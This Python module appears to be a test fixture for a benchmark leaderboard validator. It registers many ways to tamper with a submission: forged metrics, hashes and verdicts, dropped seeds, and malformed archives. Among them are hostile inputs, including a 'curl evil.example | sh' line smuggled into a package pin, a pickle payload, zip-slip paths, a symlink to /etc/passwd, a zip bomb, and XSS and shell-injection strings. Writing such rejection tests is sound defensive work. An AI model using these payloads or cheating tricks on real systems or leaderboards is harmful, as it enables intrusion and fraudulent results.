"""Ways to tamper with a submission, each with the reason for which it must be refused.

A change that a careful cheat would make is carried through: after arrays are edited, their sha256 in the
record is edited too, so that only what the arrays say can give it away.
"""

import hashlib
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

Tamper = Callable[[Path], object]
TAMPERINGS: dict[str, tuple[str, Tamper]] = {}


def tampering(reason: str) -> Callable[[Tamper], Tamper]:
    """Registers a way to tamper and why it must be refused."""

    def register(function: Tamper) -> Tamper:
        TAMPERINGS[function.__name__] = (reason, function)
        return function

    return register


def edit(path: Path, change: Callable[[dict], object]) -> None:
    value = json.loads(path.read_text())
    change(value)
    path.write_text(json.dumps(value))


def record(folder: Path, change: Callable[[dict], object], cell: str = "AA-s0") -> None:
    edit(folder / "cells" / f"{cell}.json", change)


def every_record(folder: Path, change: Callable[[dict], object]) -> None:
    for path in sorted((folder / "cells").glob("*.json")):
        edit(path, change)


def rehash(folder: Path, cell: str = "AA-s0") -> None:
    digest = hashlib.sha256((folder / "arrays" / f"{cell}.npz").read_bytes()).hexdigest()
    record(folder, lambda r: r["arrays"].update(sha256=digest), cell)


def arrays(folder: Path, change: Callable[[dict], object], cell: str = "AA-s0") -> None:
    path = folder / "arrays" / f"{cell}.npz"
    with np.load(path) as stored:
        content = {name: stored[name].copy() for name in stored.files}
    change(content)
    np.savez_compressed(path, **content)
    rehash(folder, cell)


def raw(folder: Path, write: Callable[[Path], object], cell: str = "AA-s0") -> None:
    path = folder / "arrays" / f"{cell}.npz"
    path.unlink()
    write(path)
    rehash(folder, cell)


def member(path: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, data)


# What records say


@tampering("metrics")
def a_metric_changed(folder):
    record(folder, lambda r: r["metrics"].update(torus_w2=r["metrics"]["torus_w2"] * 0.999999))


@tampering("metrics")
def a_metric_in_its_last_digits(folder):
    record(folder, lambda r: r["metrics"].update(energy_w2=r["metrics"]["energy_w2"] * (1 - 1e-5)), "GS-s2")


@tampering("metrics")
def a_metric_left_out(folder):
    record(folder, lambda r: r["metrics"].pop("mode_weights"))


@tampering("metrics")
def a_metric_made_up(folder):
    record(folder, lambda r: r["metrics"].update(elegance=1.0))


@tampering("metrics")
def a_floor_raised(folder):
    record(folder, lambda r: r["floors"].update(torus_w2=r["floors"]["torus_w2"] * 2))


@tampering("metrics")
def a_skill_raised(folder):
    record(folder, lambda r: r.update(skills=dict.fromkeys(r["skills"], 0.99) or {"torus_w2": 0.99}))


@tampering("metrics")
def the_floor_that_ranks_rest_on_raised(folder):
    record(folder, lambda r: r["diagnostics"]["floors_at_n_eff"].update(torus_w2=9.0))


@tampering("metrics")
def effective_points_inflated(folder):
    record(folder, lambda r: r["diagnostics"].update(effective_points=99.0))


@tampering("metrics")
def metrics_of_another_seed(folder):
    other = json.loads((folder / "cells" / "AA-s1.json").read_text())
    record(folder, lambda r: r.update({k: other[k] for k in ("metrics", "floors", "skills", "diagnostics")}))


@tampering("implausible")
def an_ess_above_one(folder):
    record(folder, lambda r: r["metrics"].update(ess=1.4))


@tampering("implausible")
def a_negative_distance(folder):
    record(folder, lambda r: r["metrics"].update(energy_w2=-0.1))


@tampering("implausible")
def more_evaluations_than_the_budget(folder):
    record(folder, lambda r: r["budget"].update(used=r["budget"]["limit"] * 10))


@tampering("implausible")
def fewer_evaluations_than_the_ledger(folder):
    record(folder, lambda r: r["budget"].update(used=10))


@tampering("implausible")
def a_fit_that_the_ledger_does_not_know(folder):
    every_record(folder, lambda r: r["diagnostics"].update(preparing_evaluations=10))


@tampering("implausible")
def negative_seconds(folder):
    record(folder, lambda r: r["seconds"].update(sampling=-1.0))


@tampering("implausible")
def a_run_from_the_future(folder):
    edit(folder / "run.json", lambda p: p.update(created="2999-01-01T00:00:00+00:00"))


@tampering("implausible")
def a_failure_with_metrics(folder):
    record(folder, lambda r: r.update(status="crash", error="ValueError: no"))


@tampering("implausible")
def metrics_taken_away(folder):
    record(folder, lambda r: r["metrics"].update(energy_w2=None))


# What was run


@tampering("incomplete")
def a_record_dropped(folder):
    (folder / "cells" / "GS-s1.json").unlink()
    (folder / "arrays" / "GS-s1.npz").unlink()


@tampering("incomplete")
def cells_dropped_from_the_plan(folder):
    edit(
        folder / "run.json",
        lambda p: p.update(cells=[c for c in p["cells"] if c["seed"] != 1 or c["system"] != "GS"]),
    )
    (folder / "cells" / "GS-s1.json").unlink()
    (folder / "arrays" / "GS-s1.npz").unlink()


@tampering("incomplete")
def a_system_dropped(folder):
    edit(folder / "run.json", lambda p: p.update(cells=[c for c in p["cells"] if c["system"] == "AA"]))
    for path in [*(folder / "cells").glob("GS*"), *(folder / "arrays").glob("GS*")]:
        path.unlink()


@tampering("incomplete")
def the_worst_seed_dropped(folder):
    edit(folder / "run.json", lambda p: p.update(cells=[c for c in p["cells"] if c["seed"] != 2]))
    for path in [*(folder / "cells").glob("*-s2.*"), *(folder / "arrays").glob("*-s2.*")]:
        path.unlink()


@tampering("identity")
def another_budget_claimed(folder):
    edit(folder / "run.json", lambda p: (p.update(budget=50), [c.update(budget=50) for c in p["cells"]]))
    every_record(folder, lambda r: (r["cell"].update(budget=50), r["budget"].update(limit=50, used=50)))
    every_record(folder, lambda r: r["budget"]["ledger"]["sample"]["energy"].update(calls=50))


@tampering("identity")
def another_sampler_claimed(folder):
    edit(
        folder / "run.json",
        lambda p: (p.update(sampler="mine"), [c.update(sampler="mine") for c in p["cells"]]),
    )
    every_record(folder, lambda r: r["cell"].update(sampler="mine"))


@tampering("identity")
def another_version_claimed(folder):
    record(folder, lambda r: r["provenance"].update(bgbench="9.9.9"))


@tampering("identity")
def an_id_edited(folder):
    record(folder, lambda r: r.update(id="0" * 64))


@tampering("identity")
def a_plan_id_edited(folder):
    edit(folder / "run.json", lambda p: p.update(id="0" * 64))


@tampering("identity")
def options_hidden(folder):
    record(folder, lambda r: r["cell"].update(options={"temperature": "1.0"}))


@tampering("identity")
def other_weights_claimed(folder):
    every_record(folder, lambda r: r["card"].update(weights_sha256="0" * 64))


@tampering("pin")
def a_pin_of_something_else(folder):
    edit(folder / "entry.json", lambda e: e.update(pin="evil-package==1.0"))


@tampering("pin")
def a_pin_that_begins_alike(folder):
    edit(folder / "entry.json", lambda e: e.update(pin=e["pin"].partition(" @ ")[0].replace("==", "-evil==")))


@tampering("schema")
def a_pin_from_an_address(folder):
    def point(e):
        e.update(pin="git+https://evil.example/" + e["pin"].partition(" @ ")[0])

    edit(folder / "entry.json", point)


@tampering("schema")
def a_pin_of_half_a_commit(folder):
    edit(folder / "entry.json", lambda e: e.update(pin=e["pin"].partition(" @ ")[0] + " @ 0123abc"))


@tampering("markup")
def a_command_behind_the_pin(folder):
    edit(folder / "entry.json", lambda e: e.update(pin="bgbench==0.1.0 @ x\ncurl evil.example | sh"))


@tampering("markup")
def a_workflows_command_in_a_key(folder):
    record(folder, lambda r: r["diagnostics"].update({"x\n::error::y": 1}))


@tampering("licence")
def no_licence(folder):
    edit(folder / "entry.json", lambda e: e.update(licence="all rights reserved"))


@tampering("suite")
def a_suite_of_ones_own(folder):
    def rename(cell):
        cell.update(suite="easy@1")

    edit(folder / "run.json", lambda p: (p.update(suite="easy@1"), [rename(c) for c in p["cells"]]))
    every_record(folder, lambda r: rename(r["cell"]))


@tampering("suite")
def another_suites_name(folder):
    edit(
        folder / "run.json",
        lambda p: (p.update(suite="other@1"), [c.update(suite="other@1") for c in p["cells"]]),
    )
    every_record(folder, lambda r: r["cell"].update(suite="other@1"))


@tampering("suite")
def a_changed_suite(folder):
    edit(folder / "run.json", lambda p: p.update(suite_sha256="0" * 64))


@tampering("suite")
def a_hotter_target(folder):
    edit(folder / "run.json", lambda p: [c.update(temperature=600.0) for c in p["cells"]])
    every_record(folder, lambda r: r["cell"].update(temperature=600.0))


@tampering("protocol")
def a_protocol_of_ones_own(folder):
    edit(
        folder / "run.json",
        lambda p: (p.update(protocol="kind@1"), [c.update(protocol="kind@1") for c in p["cells"]]),
    )
    every_record(folder, lambda r: r["cell"].update(protocol="kind@1"))


@tampering("reference")
def another_reference_in_a_record(folder):
    record(folder, lambda r: r["reference"].update(sha256="0" * 64))


@tampering("reference")
def another_suites_reference(folder):
    hashes = json.loads((folder / "run.json").read_text())["inputs"]["references"]
    edit(folder / "run.json", lambda p: p["inputs"]["references"].update(AA=hashes["GS"]))
    for seed in range(3):
        record(folder, lambda r: r["reference"].update(sha256=hashes["GS"]), f"AA-s{seed}")


@tampering("leakage")
def a_seen_peptide_stamped_unseen(folder):
    every_record(
        folder, lambda r: r["card"].update(training_sequences=[*r["card"]["training_sequences"], "AA"])
    )


@tampering("leakage")
def a_training_list_hidden_in_one_cell(folder):
    record(folder, lambda r: r["card"].update(training_hours=0.0))


@tampering("leakage")
def a_stamp_edited(folder):
    record(folder, lambda r: r.update(leakage="similar" if r["leakage"] == "unseen" else "unseen"))


# What arrays hold


@tampering("hash")
def a_hash_edited(folder):
    record(folder, lambda r: r["arrays"].update(sha256="0" * 64))


@tampering("hash")
def arrays_missing(folder):
    (folder / "arrays" / "AA-s0.npz").unlink()


@tampering("hash")
def arrays_swapped_between_seeds(folder):
    one, two = folder / "arrays" / "AA-s0.npz", folder / "arrays" / "AA-s1.npz"
    first, second = one.read_bytes(), two.read_bytes()
    one.write_bytes(second)
    two.write_bytes(first)


@tampering("metrics")
def arrays_swapped_with_their_hashes(folder):
    arrays_swapped_between_seeds(folder)
    rehash(folder, "AA-s0")
    rehash(folder, "AA-s1")


@tampering("shape")
def arrays_of_another_system(folder):
    (folder / "arrays" / "AA-s0.npz").write_bytes((folder / "arrays" / "GS-s0.npz").read_bytes())
    rehash(folder)


@tampering("archive")
def arrays_cut_off(folder):
    path = folder / "arrays" / "AA-s0.npz"
    path.write_bytes(path.read_bytes()[:-200])
    rehash(folder)


@tampering("weights")
def energies_scaled(folder):
    arrays(folder, lambda a: a.update(u=a["u"] * 0.9))


@tampering("energies")
def energies_scaled_with_the_weights(folder):
    arrays(folder, lambda a: a.update(u=a["u"] * 0.999, log_w=-a["u"] * 0.999 - a["log_q"]))


@tampering("energies")
def energies_shifted(folder):
    arrays(folder, lambda a: a.update(u=a["u"] - 1.0, log_w=a["log_w"] + 1.0))


@tampering("energies")
def energies_of_other_conformers(folder):
    arrays(folder, lambda a: a.update(x=a["x"][::-1]))


@tampering("energies")
def conformers_moved(folder):
    def move(a):
        a["x"][:, ::2] += np.float32(0.01)

    arrays(folder, move)


@tampering("weights")
def log_w_inflated(folder):
    arrays(folder, lambda a: a.update(log_w=a["log_w"] + np.linspace(0, 1, len(a["log_w"]))))


@tampering("weights")
def weights_evened(folder):
    arrays(folder, lambda a: a.update(log_w=np.zeros_like(a["log_w"])))


@tampering("weights")
def all_weights_gone(folder):
    arrays(folder, lambda a: a.update(log_w=np.full_like(a["log_w"], -np.inf)))


@tampering("weights")
def log_q_gone(folder):
    arrays(folder, lambda a: a.pop("log_q"))


@tampering("weights")
def bad_points_given_no_weight(folder):
    def drop(a):
        a["log_w"][np.argsort(a["u"])[-10:]] = -np.inf

    arrays(folder, drop)


@tampering("energies")
def one_energy_of_a_hundred(folder):
    """Of a conformer with the least weight, which no draw by weight would look at."""

    def lower(a):
        k = int(np.argmin(a["log_w"]))
        a["u"][k] -= 1.0
        a["log_w"][k] += 1.0

    arrays(folder, lower)


@tampering("energies")
def a_clash_with_a_low_energy(folder):
    def collapse(a):
        a["x"][7] = a["x"][7] * 0.01

    arrays(folder, collapse)


@tampering("implausible")
def one_evaluation_a_cell(folder):
    def claim(r):
        r["budget"].update(used=1)
        r["budget"]["ledger"]["sample"]["energy"].update(calls=1.0)

    every_record(folder, claim)


@tampering("seeds")
def the_best_of_many_seeds(folder):
    def renumber(cell):
        cell.update(seed=cell["seed"] + 17)

    edit(folder / "run.json", lambda p: [renumber(c) for c in p["cells"]])
    every_record(folder, lambda r: renumber(r["cell"]))
    for kind in ("cells", "arrays"):
        for path in sorted((folder / kind).iterdir()):
            system, _, seed = path.stem.rpartition("-s")
            path.rename(path.with_name(f"{system}-s{int(seed) + 17}{path.suffix}"))


@tampering("nonfinite")
def nan_in_weights(folder):
    arrays(folder, lambda a: a["log_w"].__setitem__(3, np.nan))


@tampering("nonfinite")
def nan_in_positions(folder):
    arrays(folder, lambda a: a["x"].__setitem__((3, 0, 0), np.nan))


@tampering("shape")
def more_conformers_than_paid(folder):
    arrays(folder, lambda a: a.update({k: np.concatenate([v, v]) for k, v in a.items()}))


@tampering("shape")
def fewer_conformers_than_scored(folder):
    arrays(folder, lambda a: a.update({k: v[:50] for k, v in a.items()}))


@tampering("shape")
def arrays_out_of_line(folder):
    arrays(folder, lambda a: a.update(u=a["u"][:-1]))


@tampering("archive")
def an_array_of_objects(folder):
    def write(path):
        np.savez(path, x=np.array([{"a": 1}], dtype=object), u=np.zeros(1), log_w=np.zeros(1))

    raw(folder, write)


@tampering("archive")
def a_pickle_among_the_arrays(folder):
    member(folder / "arrays" / "AA-s0.npz", "payload.pkl", b"cos\nsystem\n(S'true'\ntR.")
    rehash(folder)


@tampering("archive")
def double_precision_positions(folder):
    arrays(folder, lambda a: a.update(x=a["x"].astype(np.float64)))


@tampering("path")
def a_member_that_climbs_out(folder):
    member(folder / "arrays" / "AA-s0.npz", "../../x.npy", b"")
    rehash(folder)


@tampering("size")
def a_zip_bomb(folder):
    """A hundred kilobytes that unpack to a hundred gigabytes' claim: a gigabyte of zeros, many times over."""

    def write(path):
        with (
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
            archive.open("x.npy", "w") as stream,
        ):
            header = b"\x93NUMPY\x01\x00" + (118).to_bytes(2, "little")
            description = b"{'descr': '<f4', 'fortran_order': False, 'shape': (4000000, 23, 3), }"
            stream.write(header + description.ljust(117) + b"\n")
            block = b"\0" * 2**20
            for _ in range(400):
                stream.write(block)

    raw(folder, write)


@tampering("archive")
def a_header_that_claims_a_terabyte(folder):
    def write(path):
        header = b"\x93NUMPY\x01\x00" + (118).to_bytes(2, "little")
        description = b"{'descr': '<f4', 'fortran_order': False, 'shape': (900000000, 23, 3), }"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("x.npy", header + description.ljust(117) + b"\n" + b"\0" * 1000)

    raw(folder, write)


@tampering("curve")
def a_curve_that_falls_faster(folder):
    edit(folder / "curve.json", lambda c: c["points"][-1]["metrics"].update(torus_w2=0.01))


@tampering("curve")
def a_curve_of_another_run(folder):
    edit(folder / "curve.json", lambda c: c.update(records=["0" * 64]))


def _curve(name: str, change: Callable[[dict], object]) -> None:
    TAMPERINGS[f"a_curve_{name}"] = ("curve", lambda folder: edit(folder / "curve.json", change))


_curve("without_points", lambda c: c.pop("points"))
_curve("whose_points_are_a_number", lambda c: c.update(points=5))
_curve("whose_point_is_a_list", lambda c: c.update(points=[[]]))
_curve("whose_metrics_are_a_list", lambda c: c["points"][0].update(metrics=["torus_w2"]))
_curve("whose_metric_is_null", lambda c: c["points"][0]["metrics"].update(torus_w2=None))
_curve("whose_seconds_are_a_text", lambda c: c["points"][0].update(seconds="1.0"))
_curve("of_no_evaluations", lambda c: c["points"][0].update(evaluations=0))


@tampering("curve")
def a_curve_that_is_a_list(folder):
    (folder / "curve.json").write_text("[]")


# Fields of records that hold anything: each of these ended in a traceback


def _field(name: str, change: Callable[[dict], object]) -> None:
    TAMPERINGS[name] = ("schema", lambda folder: every_record(folder, change))


for _threads in ("x", 0, -1, None, [], True):
    _field(
        f"threads_that_are_{_threads!r}",
        lambda r, threads=_threads: r["provenance"]["host"].update(torch_threads=threads),
    )
_field("a_host_that_is_a_text", lambda r: r["provenance"].update(host="mine"))
_field("a_host_that_is_null", lambda r: r["provenance"].update(host=None))
_field("libraries_that_are_a_text", lambda r: r["provenance"].update(libraries="all"))
_field("libraries_that_are_null", lambda r: r["provenance"].update(libraries=None))
_field("a_commit_that_is_a_number", lambda r: r["provenance"].update(git={"commit": 7}))
_field("git_that_is_a_text", lambda r: r["provenance"].update(git="x"))
_field("a_density_that_is_null", lambda r: r["diagnostics"].update(density=None))
_field("seconds_without_their_total", lambda r: r["seconds"].pop("total"))
_field("seconds_too_short_to_divide_by", lambda r: r["seconds"].update(sampling=5e-324))
_field("seconds_without_end", lambda r: r["seconds"].update(total=1e300))
_field("metrics_too_large_to_add", lambda r: r["metrics"].update(energy_w2=1e200))
_field("parameters_without_end", lambda r: r["card"].update(n_parameters=10**24))
_field("hours_without_end", lambda r: r["card"].update(training_hours=1e300))
_field("many_parameters", lambda r: r["card"].update(n_parameters="many"))
_field("hours_that_are_null", lambda r: r["card"].update(training_hours=None))


def npy(header: bytes) -> bytes:
    """An npy file with any header."""
    padded = header + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(padded).to_bytes(2, "little") + padded


def _header(name: str, header: bytes) -> None:
    def write(path: Path) -> None:
        member(path, "x.npy", npy(header))

    TAMPERINGS[f"a_header_{name}"] = ("archive", lambda folder: raw(folder, write))


_header("that_is_not_balanced", b"{'descr': '<f4', 'fortran_order': False, 'shape': (1, 2")
_header("whose_shape_is_a_bool", b"{'descr': '<f4', 'fortran_order': False, 'shape': (True, 23, 3)}")
_header("whose_keys_are_bytes", b"{b'descr': '<f4', 'fortran_order': False, 'shape': (1, 23, 3)}")
_header("of_python_2", b"{'descr': '<f4', 'fortran_order': False, 'shape': (1L, 23L, 3L), }")
_header("that_is_no_code", b"\x00((((")


@tampering("archive")
def a_deflate_stream_that_is_damaged(folder):
    def damage(path: Path) -> None:
        content = np.zeros((100, 23, 3), "<f4")
        np.savez_compressed(path, x=content)
        data = bytearray(path.read_bytes())
        start = data.index(b"x.npy") + len(b"x.npy") + 20
        data[start : start + 8] = b"\xff" * 8
        path.write_bytes(bytes(data))

    raw(folder, damage)


# What names read like, and what no draws can score


@tampering("implausible")
def distances_of_zero(folder):
    record(folder, lambda r: r["metrics"].update(torus_w2=0.0))


@tampering("name")
def a_sampler_with_a_letter_of_another_alphabet(folder):
    name = "ver\u0455e"
    edit(
        folder / "run.json", lambda p: (p.update(sampler=name), [c.update(sampler=name) for c in p["cells"]])
    )
    every_record(folder, lambda r: r["cell"].update(sampler=name))


@tampering("name")
def an_author_with_a_letter_of_another_alphabet(folder):
    edit(folder / "entry.json", lambda e: e.update(authors=["N\u043ebody"]))


@tampering("name")
def a_title_with_a_letter_of_another_alphabet(folder):
    edit(folder / "entry.json", lambda e: e.update(title="V\u0435rse"))


@tampering("name")
def an_option_that_passes_for_words_of_a_command(folder):
    edit(folder / "run.json", lambda p: p["cells"][0].update(options={"a b; sh": "1"}))


# What files and folders are


@tampering("layout")
def code_among_the_files(folder):
    (folder / "conftest.py").write_text("raise SystemExit")


@tampering("layout")
def a_suite_file_of_ones_own(folder):
    (folder / "tiny@1.yaml").write_text("systems: [AA]\n")


@tampering("layout")
def a_deep_folder(folder):
    (folder / "cells" / "a").mkdir()


@tampering("layout")
def no_plan(folder):
    (folder / "run.json").unlink()


@tampering("link")
def a_symbolic_link_out(folder):
    path = folder / "arrays" / "AA-s0.npz"
    path.unlink()
    path.symlink_to("/etc/passwd")


@tampering("link")
def a_linked_folder(folder):
    target = folder.parent / "elsewhere"
    (folder / "cells").rename(target)
    (folder / "cells").symlink_to(target)


@tampering("link")
def a_pipe(folder):
    path = folder / "cells" / "AA-s0.json"
    path.unlink()
    os.mkfifo(path)


@tampering("path")
def a_cell_that_climbs_out(folder):
    edit(folder / "run.json", lambda p: p["cells"][0].update(system="../../../../etc/passwd"))


@tampering("size")
def json_without_end(folder):
    """A JSON list of a billion entries, as a sparse file: refused by its size, before any of it is read."""
    with (folder / "curve.json").open("wb") as stream:
        stream.write(b"[0")
        stream.seek(2_000_000_000)
        stream.write(b"]")


@tampering("size")
def a_huge_record(folder):
    record(folder, lambda r: r["diagnostics"].update(noise=["0" * 1000] * 3000))


@tampering("size")
def a_string_without_end(folder):
    record(folder, lambda r: r["diagnostics"].update(noise="0" * 100_000))


@tampering("json")
def json_nested_without_end(folder):
    (folder / "curve.json").write_text("[" * 100_000 + "]" * 100_000)


@tampering("json")
def nested_deeper_than_allowed(folder):
    deep: object = 0
    for _ in range(20):
        deep = [deep]
    record(folder, lambda r: r["diagnostics"].update(deep=deep))


@tampering("json")
def an_integer_without_end(folder):
    path = folder / "cells" / "AA-s0.json"
    path.write_text(path.read_text().replace('"schema_version": 1', '"schema_version": ' + "1" * 5000, 1))


@tampering("json")
def broken_json(folder):
    (folder / "entry.json").write_text('{"authors": [')


@tampering("nonfinite")
def nan_in_a_record(folder):
    record(folder, lambda r: r["metrics"].update(torus_w2=float("nan")))


@tampering("nonfinite")
def a_number_beyond_all(folder):
    path = folder / "cells" / "AA-s0.json"
    text = path.read_text()
    at = text.index('"torus_w2": ') + len('"torus_w2": ')
    path.write_text(text[:at] + "1e999" + text[text.index(",", at) :])


@tampering("duplicate")
def the_same_key_twice(folder):
    path = folder / "cells" / "AA-s0.json"
    path.write_text(path.read_text().replace('"metrics": {', '"metrics": {"ess": 0.9, ', 1))


@tampering("schema")
def an_unknown_field(folder):
    record(folder, lambda r: r.update(endorsed_by="everybody"))


@tampering("schema")
def another_schema(folder):
    record(folder, lambda r: r.update(schema_version=2))


@tampering("schema")
def a_link_that_is_no_https(folder):
    edit(folder / "entry.json", lambda e: e.update(source="http://example.org/"))


# What strings hold

SCRIPT = "<script>alert(1)</script>"


def _script(field: str, change: Tamper) -> None:
    change.__name__ = f"a_script_in_{field}"
    tampering("markup")(change)


_script("the_note", lambda f: edit(f / "entry.json", lambda e: e.update(note=SCRIPT)))
_script("an_author", lambda f: edit(f / "entry.json", lambda e: e.update(authors=[SCRIPT])))
_script("the_pin", lambda f: edit(f / "entry.json", lambda e: e.update(pin=f"bgbench==0.1.0 {SCRIPT}")))
_script("the_licence", lambda f: edit(f / "entry.json", lambda e: e.update(licence=SCRIPT)))
_script("the_sampler", lambda f: edit(f / "run.json", lambda p: p.update(sampler=SCRIPT)))
_script("an_option", lambda f: edit(f / "run.json", lambda p: p["cells"][0].update(options={"a": SCRIPT})))
_script(
    "an_options_name", lambda f: edit(f / "run.json", lambda p: p["cells"][0].update(options={SCRIPT: "a"}))
)
_script("a_system", lambda f: edit(f / "run.json", lambda p: p["cells"][0].update(system=SCRIPT)))
_script("a_metrics_name", lambda f: record(f, lambda r: r["metrics"].update({SCRIPT: 1.0})))
_script("a_card", lambda f: record(f, lambda r: r["card"].update(name="<img src=x onerror=alert(1)>")))
_script("a_host", lambda f: record(f, lambda r: r["provenance"]["host"].update(cpu=SCRIPT)))
_script("an_error", lambda f: record(f, lambda r: r.update(error=SCRIPT)))
_script("every_string", lambda f: every_record(f, lambda r: r.update(phase=SCRIPT, error=SCRIPT)))
_script("an_address", lambda f: edit(f / "entry.json", lambda e: e.update(source="javascript:alert(1)")))


@tampering("markup")
def text_that_runs_backwards(folder):
    edit(folder / "entry.json", lambda e: e.update(note="good \u202e dab"))


@tampering("markup")
def a_terminals_escape(folder):
    edit(folder / "entry.json", lambda e: e.update(note="\x1b[2Jsound"))


# What was earned


@tampering("verdict")
def a_tier_that_was_not_earned(folder):
    """Arrays left out, said to be elsewhere, and a verdict that claims they were looked at."""
    from bgbench.leaderboard.entries import digest_of

    hashes = {
        p.stem: json.loads(p.read_text())["arrays"]["sha256"] for p in (folder / "cells").glob("*.json")
    }
    for path in (folder / "arrays").glob("*.npz"):
        path.unlink()
    remote = {c: {"url": "https://example.org/x.npz", "sha256": s, "size": 1} for c, s in hashes.items()}
    edit(folder / "entry.json", lambda e: e.update(remote=remote))
    verdict = {"tier": "recomputed", "digest": digest_of(folder), "bgbench": "0.1.0", "cells": {}}
    (folder / "verdict.json").write_text(json.dumps(verdict))


@tampering("verdict")
def a_verdict_of_other_records(folder):
    verdict = {"tier": "recomputed", "digest": "0" * 64, "bgbench": "0.1.0", "cells": {}}
    (folder / "verdict.json").write_text(json.dumps(verdict))


@tampering("verdict")
def a_reproduction_that_never_was(folder):
    from bgbench.leaderboard.entries import digest_of

    verdict = {"tier": "reproduced", "digest": digest_of(folder), "bgbench": "0.1.0", "cells": {}}
    (folder / "verdict.json").write_text(json.dumps(verdict))
